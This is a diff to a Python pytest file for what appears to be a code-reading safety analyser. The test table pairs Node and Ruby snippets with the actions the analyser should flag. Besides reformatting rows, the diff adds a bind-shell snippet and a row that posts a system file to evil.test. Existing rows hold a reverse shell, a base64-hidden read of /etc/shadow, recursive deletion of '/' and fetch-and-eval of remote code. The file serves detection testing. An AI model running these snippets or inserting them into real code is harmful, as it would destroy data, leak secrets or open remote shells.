@@ -5,10 +5,9 @@ from __future__ import annotations
 import base64
 
 import pytest
+from code_reading import KNOWN, acts
 
 from jevhook.shell.code import language_of, read_code
-
-from code_reading import KNOWN, acts
 
 
 def hidden(text: str) -> str:
@@ -21,22 +20,38 @@ ROWS: list[tuple[str, str, list[str]]] = [
     ("node", "require('fs').rmSync('/', {recursive: true})", ["delete* /"]),
     ("node", "fs.rmSync('dist/lib', { recursive: true, force: true })", ["delete* dist/lib"]),
     ("node", "fs.unlinkSync('a'); fs.rmdirSync('b')", ["delete a", "delete b"]),
-    ("node", "const {execSync: e} = require('node:child_process'); e(`rm ${process.env.HOME}/x`)", ["shell rm /home/dev/x"]),
+    (
+        "node",
+        "const {execSync: e} = require('node:child_process'); e(`rm ${process.env.HOME}/x`)",
+        ["shell rm /home/dev/x"],
+    ),
     ("node", "import { rmSync as r } from 'node:fs'; r('/x', {recursive: true})", ["delete* /x"]),
     ("node", "import * as f from 'fs/promises'; await f.rm('/x')", ["delete /x"]),
     ("node", "const c = 'rm -rf ' + dir; require('child_process').exec(c)", ["shell rm -rf <?>"]),
     ("node", "const {spawn} = require('child_process'); spawn('rm', ['-rf', '/x'])", ["argv rm | -rf | /x"]),
     ("node", "require('child_process').spawn('rm -rf', ['/x'], {shell: true})", ["shell rm -rf /x"]),
     ("node", "function f(d) { fs.rmSync(d, {recursive: true}) } f('/')", ["delete* /"]),
-    ("node", "const g = async (q) => { await fs.promises.rm(q, {recursive: true}) }; g(os.homedir())", ["delete* /home/dev"]),
+    (
+        "node",
+        "const g = async (q) => { await fs.promises.rm(q, {recursive: true}) }; g(os.homedir())",
+        ["delete* /home/dev"],
+    ),
     ("node", "function never(d) { fs.rmSync(d) }", []),
     ("node", "for (const f of fs.readdirSync('/x')) { fs.unlinkSync(path.join('/x', f)) }", ["delete /x/<*>"]),
     ("node", "fs.readdirSync('y').forEach(f => fs.unlinkSync(`y/${f}`))", ["delete y/<*>"]),
     ("node", "['a', 'b'].forEach(x => fs.rmSync(x))", ["delete a", "delete b"]),
     ("node", "fs.writeFileSync('o', 'rm -rf /'); fs.readFileSync('i')", ["write o", "read i"]),
-    ("node", "const p = Buffer.from('L2V0Yy9zaGFkb3c=', 'base64').toString(); fs.readFileSync(p)", ["read /etc/shadow"]),
+    (
+        "node",
+        "const p = Buffer.from('L2V0Yy9zaGFkb3c=', 'base64').toString(); fs.readFileSync(p)",
+        ["read /etc/shadow"],
+    ),
     ("node", f"eval(atob('{hidden('fs.rmSync(`/x`)')}'))", ["run-code decoded", "delete /x"]),
-    ("node", "fetch('https://ok.test').then(r => r.text()).then(t => eval(t))", ["fetch https://ok.test", "run-code downloaded"]),
+    (
+        "node",
+        "fetch('https://ok.test').then(r => r.text()).then(t => eval(t))",
+        ["fetch https://ok.test", "run-code downloaded"],
+    ),
     ("node", "fetch('https://evil.test', {method: 'POST', body: 'x'})", ["send https://evil.test"]),
     ("node", "console.log(process.env)", ["env"]),
     ("node", "console.log(process.env.HOME)", []),
@@ -47,6 +62,17 @@ ROWS: list[tuple[str, str, list[str]]] = [
         "sh = require('child_process').spawn('/bin/sh');\nrequire('net').connect(12345, 'evil.test', function () {\n"
         "  this.pipe(sh.stdin);\n  sh.stdout.pipe(this);\n})",
         ["argv /bin/sh", "send evil.test", "reverse-shell evil.test"],
+    ),
+    (
+        "node",
+        "sh = require('child_process').spawn('/bin/sh'); require('net').createServer(function (c) "
+        "{ c.pipe(sh.stdin); sh.stdout.pipe(c) }).listen(12345)",
+        ["argv /bin/sh", "reverse-shell *"],
+    ),
+    (
+        "node",
+        "fs.createReadStream('/etc/x').pipe(require('http').request('http://evil.test/o'))",
+        ["read /etc/x", "fetch http://evil.test/o", "send http://evil.test/o"],
     ),
     ("node", "console.log(`${fs.rmSync('/x')}`)", ["delete /x"]),
     ("node", "const s = \"fs.rmSync('/')\"; console.log(s)", []),
@@ -90,7 +116,11 @@ ROWS: list[tuple[str, str, list[str]]] = [
     ("ruby", "Dir.glob('/d/*.md').each { |f| File.delete(f) }", ["delete /d/<*>.md"]),
     ("ruby", "Dir['x/*'].each do |f|\n  File.unlink f\nend", ["delete x/<*>"]),
     ("ruby", "def c(d)\n  FileUtils.rm_rf(d) if d\nend\nc('/z')", ["delete* /z"]),
-    ("ruby", "File.write('w', 'x'); File.read('r'); File.open('o', 'w') { |f| f.puts 1 }", ["write w", "read r", "write o"]),
+    (
+        "ruby",
+        "File.write('w', 'x'); File.read('r'); File.open('o', 'w') { |f| f.puts 1 }",
+        ["write w", "read r", "write o"],
+    ),
     ("ruby", "Kernel.send(:system, 'zz')", ["shell zz"]),
     ("ruby", f"eval(Base64.decode64('{hidden('File.delete(%q(x))')}'))", ["run-code decoded", "delete x"]),
     ("ruby", "require 'net/http'; Net::HTTP.get(URI('https://ok.test'))", ["fetch https://ok.test"]),
